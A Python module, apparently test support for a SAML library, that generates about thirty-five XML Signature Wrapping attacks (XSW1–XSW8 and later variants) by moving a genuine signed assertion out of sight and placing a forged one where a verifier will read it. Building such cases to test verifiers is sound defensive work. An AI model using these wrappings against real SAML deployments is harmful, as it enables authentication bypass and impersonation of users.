"""Signature wrapping: the signed assertion moved out of sight, a forged one in its place.

XSW1 to XSW8 as numbered by Somorovsky and others (USENIX Security 2012), and the permutations of the years since. Each
takes a response whose assertion or response is signed, and the forged assertion, and returns what an attacker would post.
"""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass
from typing import Literal

from lxml import etree

from portico_saml.names import DS, SAML, SAMLP

Wrap = Callable[[etree._Element, etree._Element], etree._Element]


@dataclass(frozen=True, slots=True)
class Wrapping:
    """One way to wrap.

    Args:
        signed: which part of the original response has to be signed for it.
        wrap: given (original response, forged assertion), returns the document to post.
    """

    name: str
    signed: Literal["assertion", "response"]
    wrap: Wrap


def _assertion(response: etree._Element) -> etree._Element:
    found = response.find(f"{{{SAML}}}Assertion")
    assert found is not None
    return found


def _signature(element: etree._Element) -> etree._Element:
    found = element.find(f"{{{DS}}}Signature")
    assert found is not None
    return found


def _forged_response(original: etree._Element, forged: etree._Element) -> etree._Element:
    """A copy of the response around the forged assertion, unsigned, with another ID."""
    outer = deepcopy(original)
    for signature in outer.findall(f"{{{DS}}}Signature"):
        outer.remove(signature)
    outer.replace(_assertion(outer), deepcopy(forged))
    outer.set("ID", "_forged_response")
    return outer


def _add(parent: etree._Element, namespace: str, name: str) -> etree._Element:
    return etree.SubElement(parent, f"{{{namespace}}}{name}")


def _response_in_object(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer, inner = _forged_response(original, forged), deepcopy(original)
    signature = _signature(inner)
    inner.remove(signature)
    outer.insert(1, signature)
    _add(signature, DS, "Object").append(inner)
    return outer


def _response_beside_signature(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer, inner = _forged_response(original, forged), deepcopy(original)
    signature = _signature(inner)
    inner.remove(signature)
    outer.insert(1, signature)
    outer.insert(2, inner)
    return outer


def _forged_first(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer = deepcopy(original)
    _assertion(outer).addprevious(deepcopy(forged))
    return outer


def _forged_last(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer = deepcopy(original)
    outer.append(deepcopy(forged))
    return outer


def _original_inside_forged(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer, copy = deepcopy(original), deepcopy(forged)
    inner = _assertion(outer)
    outer.replace(inner, copy)
    copy.append(inner)
    return outer


def _forged_takes_signature(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer, copy = deepcopy(original), deepcopy(forged)
    inner = _assertion(outer)
    signature = _signature(inner)
    inner.remove(signature)
    outer.insert(outer.index(inner), copy)
    copy.insert(1, signature)
    return outer


def _signature_in_forged_holds_original(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer, copy = deepcopy(original), deepcopy(forged)
    inner = _assertion(outer)
    signature = _signature(inner)
    inner.remove(signature)
    outer.replace(inner, copy)
    copy.insert(1, signature)
    signature.append(inner)
    return outer


def _object_in_forged_holds_original(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer, copy = deepcopy(original), deepcopy(forged)
    inner = _assertion(outer)
    signature = _signature(inner)
    inner.remove(signature)
    outer.replace(inner, copy)
    copy.insert(1, signature)
    _add(signature, DS, "Object").append(inner)
    return outer


def _forged_in_extensions(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer = deepcopy(original)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(deepcopy(forged))
    outer.insert(1, extensions)
    return outer


def _original_in(*path: tuple[str, str]) -> Wrap:
    """The original assertion below `path` of the forged one, or of the response when the path begins there."""

    def wrap(original: etree._Element, forged: etree._Element) -> etree._Element:
        outer, copy = deepcopy(original), deepcopy(forged)
        inner = _assertion(outer)
        outer.replace(inner, copy)
        place = outer if path[0][0] == SAMLP else copy
        for namespace, name in path:
            found = place.find(f".//{{{namespace}}}{name}")
            if found is None:
                found = etree.Element(f"{{{namespace}}}{name}")
                place.insert(1, found)
            place = found
        place.append(inner)
        return outer

    return wrap


def _nested_response(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer = _forged_response(original, forged)
    outer.append(deepcopy(original))
    return outer


def _twin_in_other_namespace(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer = deepcopy(original)
    twin = etree.Element("{urn:oasis:names:tc:SAML:1.0:assertion}Assertion")
    twin.extend(list(deepcopy(forged)))
    outer.append(twin)
    return outer


def _signature_twin_in_other_namespace(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer, copy = deepcopy(original), deepcopy(forged)
    inner = _assertion(outer)
    outer.replace(inner, copy)
    signature = deepcopy(_signature(inner))
    other = etree.Element("{urn:example:signature}Signature")
    other.extend(list(signature))
    copy.insert(1, other)
    return outer


def _same_id_twice(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer, copy = deepcopy(original), deepcopy(forged)
    copy.set("ID", _assertion(outer).get("ID", ""))
    _assertion(outer).addprevious(copy)
    return outer


def _same_id_inside(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer, copy = deepcopy(original), deepcopy(forged)
    inner = _assertion(outer)
    copy.set("ID", inner.get("ID", ""))
    copy.insert(1, deepcopy(_signature(inner)))
    outer.replace(inner, copy)
    _add(_signature(copy), DS, "KeyInfo").append(inner)
    return outer


def _id_pollution(original: etree._Element, forged: etree._Element) -> etree._Element:
    """The forged assertion carries the signed ID as `Id` and as xml:id."""
    outer, copy = deepcopy(original), deepcopy(forged)
    inner = _assertion(outer)
    signed_id = inner.get("ID", "")
    copy.set("Id", signed_id)
    copy.insert(1, deepcopy(_signature(inner)))
    outer.replace(inner, copy)
    evidence = etree.Element(f"{{{SAML}}}Advice")
    copy.insert(2, evidence)
    evidence.append(inner)
    return outer


def _xml_id_pollution(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer = _forged_takes_signature(original, forged)
    outer[-1].set("{http://www.w3.org/XML/1998/namespace}id", "_assertion")
    return outer


def _signature_only(original: etree._Element, forged: etree._Element) -> etree._Element:
    """The signature of the original copied into the forged assertion, the original thrown away."""
    outer, copy = deepcopy(original), deepcopy(forged)
    inner = _assertion(outer)
    copy.set("ID", inner.get("ID", ""))
    copy.insert(1, deepcopy(_signature(inner)))
    outer.replace(inner, copy)
    return outer


def _changed_name(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer = deepcopy(original)
    names = outer.findall(f".//{{{SAML}}}NameID")
    forged_name = forged.find(f".//{{{SAML}}}NameID")
    assert forged_name is not None
    for name in names:
        name.text = forged_name.text
    return outer


def _second_subject(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer = deepcopy(original)
    subject = forged.find(f"{{{SAML}}}Subject")
    _assertion(outer).insert(2, deepcopy(subject))  # type: ignore[arg-type]
    return outer


def _envelope(original: etree._Element, forged: etree._Element) -> etree._Element:
    soap = "http://schemas.xmlsoap.org/soap/envelope/"
    envelope = etree.Element(f"{{{soap}}}Envelope")
    body = _add(envelope, soap, "Body")
    body.append(_forged_response(original, forged))
    body.append(deepcopy(original))
    return envelope


def _encrypted_twin(original: etree._Element, forged: etree._Element) -> etree._Element:
    outer = deepcopy(original)
    _add(outer, SAML, "EncryptedAssertion").append(deepcopy(forged))
    return outer


WRAPPINGS: tuple[Wrapping, ...] = (
    Wrapping("XSW1 signed response in ds:Object of the forged one", "response", _response_in_object),
    Wrapping("XSW2 signed response beside the moved signature", "response", _response_beside_signature),
    Wrapping("XSW3 forged assertion before the signed one", "assertion", _forged_first),
    Wrapping("XSW4 signed assertion inside the forged one", "assertion", _original_inside_forged),
    Wrapping("XSW5 forged assertion takes the signature", "assertion", _forged_takes_signature),
    Wrapping("XSW6 signed assertion inside the moved signature", "assertion", _signature_in_forged_holds_original),
    Wrapping("XSW7 forged assertion in Extensions", "assertion", _forged_in_extensions),
    Wrapping("XSW8 signed assertion in ds:Object of the signature", "assertion", _object_in_forged_holds_original),
    Wrapping("forged assertion after the signed one", "assertion", _forged_last),
    Wrapping("forged assertion after the one in a signed response", "response", _forged_last),
    Wrapping("forged assertion in Extensions of a signed response", "response", _forged_in_extensions),
    Wrapping("original in Extensions", "assertion", _original_in((SAMLP, "Extensions"))),
    Wrapping("original in StatusDetail", "assertion", _original_in((SAMLP, "Status"), (SAMLP, "StatusDetail"))),
    Wrapping("original in StatusMessage", "assertion", _original_in((SAMLP, "Status"), (SAMLP, "StatusMessage"))),
    Wrapping("original in Advice", "assertion", _original_in((SAML, "Advice"))),
    Wrapping("original in AttributeValue", "assertion", _original_in((SAML, "AttributeValue"))),
    Wrapping("original in NameID", "assertion", _original_in((SAML, "NameID"))),
    Wrapping("original in SubjectConfirmation", "assertion", _original_in((SAML, "SubjectConfirmation"))),
    Wrapping("original in SubjectConfirmationData", "assertion", _original_in((SAML, "SubjectConfirmationData"))),
    Wrapping("original in Conditions", "assertion", _original_in((SAML, "Conditions"))),
    Wrapping("original in AuthnContext", "assertion", _original_in((SAML, "AuthnContext"))),
    Wrapping("nested response", "response", _nested_response),
    Wrapping("nested response with signed assertion", "assertion", _nested_response),
    Wrapping("forged twin in the SAML 1 namespace", "assertion", _twin_in_other_namespace),
    Wrapping("signature twin in another namespace", "assertion", _signature_twin_in_other_namespace),
    Wrapping("same ID twice", "assertion", _same_id_twice),
    Wrapping("same ID, original in KeyInfo", "assertion", _same_id_inside),
    Wrapping("signed ID as Id of the forged one", "assertion", _id_pollution),
    Wrapping("signed ID as xml:id", "assertion", _xml_id_pollution),
    Wrapping("signature copied to the forged assertion", "assertion", _signature_only),
    Wrapping("name changed under the assertion's signature", "assertion", _changed_name),
    Wrapping("name changed under the response's signature", "response", _changed_name),
    Wrapping("second Subject in the signed assertion", "assertion", _second_subject),
    Wrapping("SOAP envelope around both", "response", _envelope),
    Wrapping("forged assertion as EncryptedAssertion", "assertion", _encrypted_twin),
)
